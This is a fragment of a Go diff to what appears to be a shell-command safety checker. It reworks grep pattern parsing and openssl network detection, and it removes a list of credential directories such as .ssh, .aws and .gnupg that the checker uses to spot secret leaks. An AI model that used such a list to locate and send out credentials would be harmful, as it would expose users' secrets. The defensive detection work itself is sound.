+	return nil, false
+}
+
+// grepPatterns marks a grep's pattern words, by index in the words read
+// plus offset: -e's values and, with no -e or -f, its first operand.
+func grepPatterns(r reading, offset int) map[int]bool {
 	out := map[int]bool{}
 	given := false
-	for i := 0; i < len(args); i++ {
-		t := args[i].Text
-		if !args[i].Static {
-			continue
+	for _, o := range r.inv.Scan.Values("-e", "--regexp", "-f", "--file") {
+		given = true
+		if o.HasValue && (o.Name == "-e" || o.Name == "--regexp") {
+			out[offset+o.ValueAt] = true
 		}
-		if t == "--" {
-			if !given && i+1 < len(args) {
-				out[offset+i+1] = true
-			}
-			return out
-		}
-		if t == "-e" || t == "--regexp" {
-			given = true
-			if i+1 < len(args) {
-				out[offset+i+1] = true
-			}
-			i++
-			continue
-		}
-		if strings.HasPrefix(t, "--regexp=") || strings.HasPrefix(t, "--file=") || t == "-f" || t == "--file" {
-			given = true
-			if strings.HasPrefix(t, "--regexp=") {
-				out[offset+i] = true
-			}
-			if t == "-f" || t == "--file" {
-				i++
-			}
-			continue
-		}
-		if strings.HasPrefix(t, "--") {
-			if !strings.Contains(t, "=") && (t == "--max-count" || t == "--context" || t == "--after-context" || t == "--before-context" || t == "--glob" || t == "--type" || t == "--include" || t == "--exclude") {
-				i++
-			}
-			continue
-		}
-		if strings.HasPrefix(t, "-") && len(t) > 1 {
-			if strings.HasPrefix(t, "-e") && len(t) > 2 {
-				given = true
-				out[offset+i] = true
-				continue
-			}
-			if clusterEndsWithArg(t, valueLetters) {
-				if t[len(t)-1] == 'e' {
-					given = true
-					out[offset+i+1] = true
-				}
-				if t[len(t)-1] == 'f' {
-					given = true
-				}
-				i++
-			}
-			continue
-		}
-		if !given {
-			out[offset+i] = true
-		}
-		return out
+	}
+	if ops := r.inv.Scan.Operands; !given && len(ops) > 0 {
+		out[offset+ops[0]] = true
 	}
 	return out
+}
+
+// gitGrepPatterns is grepPatterns for git grep's words, read by the scanner
+// with git grep's value options until git's declaration names its verbs
+// (then git grep's own declared grammar reads them).
+func gitGrepPatterns(args []shellparse.Word, offset int) map[int]bool {
+	g := registry.Grammar{Short: "e:f:m:A:B:C:O::", Long: []string{"regexp=", "file=", "max-count=", "after-context=", "before-context=", "context=", "open-files-in-pager=?", "threads=", "max-depth="}}
+	inv := registry.Invocation{Scan: g.Scan(shellparse.RegistryWords(args))}
+	return grepPatterns(reading{inv: &inv, args: args}, offset)
 }
 
 // decodedName finds a substitution that decodes or rebuilds text: the name it
@@ -586,10 +668,11 @@ func (ck *checker) inlineSecrets(name, code string) {
 }
 
 // opensslConnects reports an openssl command that talks to a server
-// (s_client, s_time); openssl x509, enc, dgst … only read and print.
-func opensslConnects(args []shellparse.Word) bool {
-	ops := operands(args)
-	return len(ops) == 0 || !ops[0].Static || ops[0].Text == "s_client" || ops[0].Text == "s_time"
+// (s_client, s_time, or a verb known only at run time); openssl x509, enc,
+// dgst … only read and print.
+func opensslConnects(c shellparse.SimpleCommand) bool {
+	inv, ok := scanned(c)
+	return ok && (inv.DynamicVerb || slices.Contains(inv.Node.Does, effect.NetworkOutbound))
 }
 
 // dnsTools send the names they are given to name servers and hosts.
@@ -606,6 +689,3 @@ func (ck *checker) substCarriesSecret(w shellparse.Word) bool {
 	}
 	return false
 }
-
-// secretDirBase are the last names of secretDirs, a cheap first test.
-var secretDirBase = map[string]bool{".ssh": true, ".aws": true, ".kube": true, ".docker": true, "gh": true, "gcloud": true, ".azure": true, ".gnupg": true, ".password-store": true, "~": false}
